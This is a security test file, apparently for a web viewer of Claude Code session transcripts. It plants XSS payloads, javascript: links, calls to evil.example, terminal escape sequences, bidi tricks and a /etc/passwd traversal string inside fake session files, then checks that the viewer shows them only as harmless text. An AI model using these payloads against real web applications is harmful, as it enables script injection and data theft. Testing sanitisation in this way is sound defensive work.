// Transcripts hold whatever a model, a web page or an attacker put there: all of it is text.

import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { ask, type Board, enter, Faults, launch, settled, start } from './board';

const HARM = "window.__hostile='ran'";
const TEXTS: Record<string, string> = {
  script: `<script>${HARM}</script><script src="http://evil.example/x.js"></script>`,
  handlers: `<img src=x onerror="${HARM}"><svg onload="${HARM}"><body onload="${HARM}"><details open ontoggle="${HARM}">`,
  links: `[a](javascript:${HARM}) [b](data:text/html,<script>${HARM}</script>) [c](vbscript:x) <a href="javascript:${HARM}">d</a> [e](//evil.example)`,
  pictures: '![p](http://evil.example/track.png) ![q](javascript:alert(1)) <img src="http://evil.example/i.png">',
  svg: `<svg><script>${HARM}</script><foreignObject><iframe srcdoc="<script>${HARM}</script>"></iframe></foreignObject></svg>`,
  styles:
    '<style>*{display:none}</style><link rel=stylesheet href=http://evil.example/x.css><base href=http://evil.example>',
  forms:
    '<form action=http://evil.example><input autofocus onfocus=alert(1)></form><meta http-equiv=refresh content="0;url=http://evil.example">',
  escapes:
    'a\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007 \u001b]52;c;ZXZpbA==\u0007 \u001b[2J\u001b[1;1H \u001b]0;title\u0007',
  bidi: 'access = "user\u202e \u2066// only admin\u2069 \u2066"',
  nested: `${'> '.repeat(10_000)}deep`,
  brackets: `${'['.repeat(10_000)}x${']'.repeat(10_000)}`,
  stars: '*_'.repeat(20_000),
  table: `|a|b|\n|-|-|\n${'|cell|cell|\n'.repeat(5_000)}`,
  fence: `\`\`\`html\n<script>${HARM}</script>\n\`\`\``,
  controls: 'nul \u0000 bell \u0007 del \u007f c1 \u0085 zero\u200bwidth',
  traversal: '../../../../etc/passwd',
};
const WORD = 'w'.repeat(10_000_000);

let browser: Browser;
let board: Board;
let context: BrowserContext;

function claude(home: string, id: string, records: object[]): void {
  const dir = join(home, '.claude/projects/-tmp-hostile');
  mkdirSync(dir, { recursive: true });
  const common = {
    sessionId: id,
    cwd: '/tmp/<b onmouseover=alert(1)>hostile</b>',
    version: '2.1.0',
    gitBranch: '"><script>alert(1)</script>',
  };
  const lines = records.map((record, n) =>
    JSON.stringify({
      parentUuid: n > 0 ? `${id}-${n - 1}` : null,
      uuid: `${id}-${n}`,
      timestamp: new Date(1_790_000_000_000 + n * 1_000).toISOString(),
      ...common,
      ...record,
    }),
  );
  writeFileSync(join(dir, `${id}.jsonl`), `${lines.join('\n')}\n`);
}

const said = (text: string) => [
  { type: 'user', message: { role: 'user', content: text } },
  {
    type: 'assistant',
    message: {
      id: `m${text.length}`,
      role: 'assistant',
      model: '<img src=x onerror=alert(1)>',
      content: [{ type: 'text', text }],
    },
  },
  {
    type: 'assistant',
    message: {
      id: `t${text.length}`,
      role: 'assistant',
      model: 'm',
      content: [
        {
          type: 'tool_use',
          id: `c${text.length}`,
          name: '<img src=x onerror=alert(1)>',
          input: { command: text, description: text },
        },
      ],
    },
  },
  {
    type: 'user',
    message: { role: 'user', content: [{ type: 'tool_result', tool_use_id: `c${text.length}`, content: text }] },
  },
  {
    type: 'assistant',
    message: {
      id: `e${text.length}`,
      role: 'assistant',
      model: 'm',
      content: [
        {
          type: 'tool_use',
          id: `d${text.length}`,
          name: 'Edit',
          input: {
            file_path: text.slice(0, 200),
            old_string: text.slice(0, 20_000),
            new_string: text.slice(0, 10_000),
          },
        },
      ],
    },
  },
  { type: 'custom-title', customTitle: text.slice(0, 5_000) },
];

const PICTURE = {
  type: 'base64',
  media_type: 'image/svg+xml',
  data: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${HARM}"/>`).toString('base64'),
};

const names = Object.keys(TEXTS);
const idOf = (n: number) => `0000aaaa-1111-4222-8333-${String(n).padStart(12, '0')}`;

beforeAll(async () => {
  browser = await launch();
  board = await start((home) => {
    for (const [n, name] of names.entries()) claude(home, idOf(n), said(TEXTS[name] ?? ''));
    claude(home, idOf(500), said(WORD));
    claude(home, idOf(501), [
      {
        type: 'user',
        message: {
          role: 'user',
          content: [
            { type: 'text', text: 'A lying picture' },
            { type: 'image', source: PICTURE },
          ],
        },
      },
    ]);
  });
  context = await enter(browser, board);
  await settled(context, board);
});
afterAll(async () => {
  await browser.close();
  await board.end();
});

async function survives(address: string, wait: string | RegExp): Promise<string> {
  const page = await context.newPage();
  const faults = new Faults();
  faults.watch(page);
  await page.goto(`${board.address}${address}`);
  await page.getByText(wait).first().waitFor();
  // Everything that opens is opened.
  for (let round = 0; round < 2; round++) {
    await page.evaluate(() => {
      for (const button of document.querySelectorAll<HTMLElement>('main button[aria-expanded="false"]')) button.click();
    });
  }
  await page.waitForTimeout(200);
  expect(await page.evaluate(() => (window as unknown as { __hostile?: string }).__hostile)).toBeUndefined();
  expect(faults.all, address).toEqual([]);
  expect(new URL(page.url()).origin).toBe(board.address);
  expect(
    await page.evaluate(() => document.documentElement.scrollWidth - innerWidth),
    `${address} is no wider than the screen`,
  ).toBeLessThanOrEqual(0);
  const bad = await page.evaluate(() =>
    [...document.querySelectorAll('main a[href]')]
      .map((link) => (link as HTMLAnchorElement).protocol)
      .filter((protocol) => !/^(https?|mailto):$/.test(protocol)),
  );
  expect(bad).toEqual([]);
  expect(
    await page
      .locator('main script, main iframe, main style, main article form, main object, main img[src^="http"]')
      .count(),
  ).toBe(0);
  const text = await page.locator('main').innerText();
  await page.close();
  return text;
}

it.each(names)('%s is text', async (name) => {
  const id = idOf(names.indexOf(name));
  const text = await survives(`/s/${encodeURIComponent(`claude:${id}`)}`, 'You');
  if (name === 'script') expect(text).toContain('<script>');
  if (name === 'bidi') expect(text).toContain('⟨U+202E⟩');
  if (name === 'links') expect(text).toContain('javascript:');
  if (name === 'pictures') expect(text).toContain('http://evil.example/track.png');
});

it('a word of ten megabytes does not stop the page', async () => {
  const text = await survives(`/s/${encodeURIComponent(`claude:${idOf(500)}`)}`, 'You');
  expect(text).toContain('wwww');
  const answer = await ask<{ items: { text: string; truncatedBytes?: number }[] }>(
    context,
    board,
    `/api/v1/sessions/claude:${idOf(500)}/items`,
  );
  expect(answer.items[0]?.truncatedBytes).toBeGreaterThan(9_000_000);
});

it('a picture that is none is not sent', async () => {
  await survives(`/s/${encodeURIComponent(`claude:${idOf(501)}`)}`, 'A lying picture');
  const answer = await context.request.get(`${board.address}/api/v1/sessions/claude:${idOf(501)}/items/0/images/0`);
  expect(answer.status()).toBe(404);
});

it('lists, search, usage and sources take it, too', async () => {
  for (const [address, wait] of [
    ['/', /Sessions/],
    ['/search?q=hostile', /hostile/],
    ['/search?q=script', /script/],
    ['/usage?range=all', /Usage/],
    ['/sources', /Sources/],
    ['/?q=%3Cscript%3E', /Sessions/],
    ['/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E', /./],
  ] as const) {
    await survives(address, wait);
  }
});
